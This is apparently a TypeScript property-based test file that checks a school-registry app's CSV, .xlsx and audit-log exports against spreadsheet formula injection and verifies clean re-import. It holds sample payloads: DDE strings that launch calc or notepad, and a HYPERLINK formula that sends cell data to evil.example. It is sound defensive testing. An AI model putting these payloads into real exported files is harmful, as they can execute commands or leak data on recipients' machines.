import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { auditCsvRows } from "@/lib/audit/csv";
import type { AuditRow } from "@/lib/audit/data";
import { exportRow, schoolsCsv, schoolsXlsx, type ExportRecord } from "@/lib/exports/schools";
import { exportCell, neutraliseFormula, normaliseCell, unneutraliseFormula } from "@/lib/imports/cells";
import { schoolColumns } from "@/lib/imports/columns";
import { parseCsv } from "@/lib/imports/csv";
import { readUpload } from "@/lib/imports/read";
import { prepareSchoolRows } from "@/lib/imports/school-rows";
import { csvLine, neutralise, toCsv as openDataCsv } from "@/lib/opendata/csv";
import { hostileString, PAYLOADS } from "@/tests/support/hostile-input";

/**
 * Formula injection ("CSV injection", OWASP): no cell of any export — the school list (.xlsx and
 * CSV), the audit log CSV, the open-data CSV — may start with = + - @ tab or CR, however the text
 * was typed; and an exported school list re-imports to exactly the text that was stored.
 */
const FORMULA = /^[=+\-@\t\r]/;
const plainNumber = /^-\d+(\.\d+)?$/;
const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"详情")',
  "+1+cmd|' /C notepad'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
  "''+1",
];
const risky = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  hostileString,
  fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "'="), hostileString).map(([a, b]) => a + b),
);

function expectSafe(cell: string, where: string) {
  if (FORMULA.test(cell)) expect(plainNumber.test(cell), `${where}: formula-like cell ${JSON.stringify(cell.slice(0, 40))}`).toBe(true);
}

describe("open-data and audit CSV", () => {
  it("property: no cell starts a formula; removing the one apostrophe added gives the text back", () => {
    fc.assert(
      fc.property(
        fc.array(
          risky.filter((s) => s.length < 5000),
          { minLength: 1, maxLength: 6 },
        ),
        (cells) => {
          const parsed = parseCsv(`${csvLine(cells)}\r\n`, ",")[0].cells;
          expect(parsed).toHaveLength(cells.length);
          parsed.forEach((c, i) => {
            expectSafe(c, "open-data CSV");
            expect(c === cells[i] || (c === `'${cells[i]}` && neutralise(cells[i]) === c)).toBe(true);
          });
        },
      ),
      { numRuns: 300 },
    );
  });

  it("property: the whole open-data document (header + rows) is safe", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(risky, risky), { maxLength: 5 }), (rows) => {
        const text = openDataCsv(
          [
            { header: "=名称", value: (r: [string, string]) => r[0] },
            { header: "备注", value: (r) => r[1] },
          ],
          rows,
        ).replace(/^\uFEFF/, "");
        for (const rec of parseCsv(text, ",")) rec.cells.forEach((c) => expectSafe(c, "open-data document"));
      }),
      { numRuns: 150 },
    );
  });

  it("property: the audit log export neutralises attempted usernames, reasons and entity ids", () => {
    const short = risky.filter((x) => x.length < 2000);
    const row = fc.record({
      actorLabel: short,
      actorId: short,
      action: short,
      entityType: short,
      entityId: short,
      authorityId: short,
      source: short,
      reason: short,
    });
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 4 }), (rows) => {
        const audit = rows.map((r) => ({ ...r, at: new Date("2026-03-02T01:00:00Z"), before: { nameZh: r.reason }, after: null }) as unknown as AuditRow);
        const recs = parseCsv(auditCsvRows(audit), ",");
        expect(recs).toHaveLength(rows.length);
        for (const rec of recs) rec.cells.forEach((c) => expectSafe(c, "audit CSV"));
      }),
      { numRuns: 150 },
    );
  });
});

describe("school list export (.xlsx and CSV) and re-import", () => {
  const textFields = ["nameZh", "nameEn", "sponsorName", "address", "approvalDocNo", "contactName"] as const;
  /** Legitimate stored text: what the school schema keeps (trimmed, no control characters). */
  const legit = fc
    .oneof(fc.constantFrom(...PAYLOADS, ...INJECTIONS), fc.string({ unit: "grapheme", maxLength: 30 }))
    .map((s) => s.trim())
    .filter((s) => s !== "" && s.isWellFormed() && !/[\u0000-\u001f\u007f]/.test(s));
  const altName = legit.filter((s) => !/[;；、\n]/.test(s));
  const record = fc.record({
    ...Object.fromEntries(textFields.map((f) => [f, legit])),
    altNames: fc.array(altName, { maxLength: 3 }),
  }) as fc.Arbitrary<Record<(typeof textFields)[number], string> & { altNames: string[] }>;
  const toExport = (r: Record<string, unknown>): ExportRecord => ({
    tier: "TECHNICIAN_COLLEGE",
    ownership: "PUBLIC",
    sponsorType: "HR_DEPARTMENT",
    status: "OPERATING",
    ...r,
    authority: { shortZh: "广东" },
  });

  /** What the import makes of each exported row, for the text fields and other names. */
  async function reimport(bytes: Uint8Array) {
    const read = await readUpload(bytes, "schools");
    if (!read.ok) throw new Error(`re-import refused: ${read.error.key}`);
    return prepareSchoolRows(read.rows, read.fields).map((p) => p.values);
  }

  it("property: no exported cell starts a formula (text and other-names columns alike)", () => {
    fc.assert(
      fc.property(record, (r) => {
        for (const v of exportRow(toExport(r))) if (typeof v === "string") expectSafe(v, "school export");
      }),
      { numRuns: 300 },
    );
  });

  it("property: CSV export → import gives back exactly the stored text", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(record, { minLength: 1, maxLength: 5 }), async (records) => {
        const back = await reimport(schoolsCsv(records.map(toExport)));
        expect(back).toHaveLength(records.length);
        back.forEach((v, i) => {
          for (const f of textFields) expect(v[f]).toBe(records[i][f]);
          expect(v.altNames).toEqual(records[i].altNames);
        });
      }),
      { numRuns: 60 },
    );
  });

  it("property: .xlsx export holds no formula cell and re-imports to the stored text", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(record, { minLength: 1, maxLength: 4 }), async (records) => {
        const bytes = await schoolsXlsx(records.map(toExport));
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(bytes as unknown as ArrayBuffer);
        wb.worksheets[0].eachRow((row, n) => {
          if (n === 1) return;
          row.eachCell((cell) => {
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            if (typeof cell.value === "string") expectSafe(cell.value, "xlsx");
          });
        });
        const back = await reimport(bytes);
        back.forEach((v, i) => {
          for (const f of textFields) expect(v[f]).toBe(records[i][f]);
          expect(v.altNames).toEqual(records[i].altNames);
        });
      }),
      { numRuns: 12 },
    );
  });

  it("counterexamples kept: other names starting with = were exported as live formulas; a name starting with '= lost its apostrophe on re-import", () => {
    const alt = schoolColumns.find((c) => c.field === "altNames")!;
    const name = schoolColumns.find((c) => c.field === "nameZh")!;
    expect(exportCell(alt, ["=cmd|' /C calc'!A0", "示例学院"])).toBe("'=cmd|' /C calc'!A0；示例学院");
    expect(normaliseCell(alt, exportCell(alt, ["=cmd|' /C calc'!A0", "示例学院"]) as string).value).toEqual(["=cmd|' /C calc'!A0", "示例学院"]);
    expect(normaliseCell(name, exportCell(name, "'=x") as string).value).toBe("'=x");
    expect(normaliseCell(name, exportCell(name, "''+1") as string).value).toBe("''+1");
  });

  it("property: neutraliseFormula and unneutraliseFormula are inverse; plain text is left alone", () => {
    fc.assert(
      fc.property(risky, (s) => {
        expect(unneutraliseFormula(neutraliseFormula(s))).toBe(s);
        if (!/^'*[=+\-@\t\r]/.test(s)) expect(neutraliseFormula(s)).toBe(s);
        else expect(FORMULA.test(neutraliseFormula(s))).toBe(false);
      }),
      { numRuns: 400 },
    );
  });
});
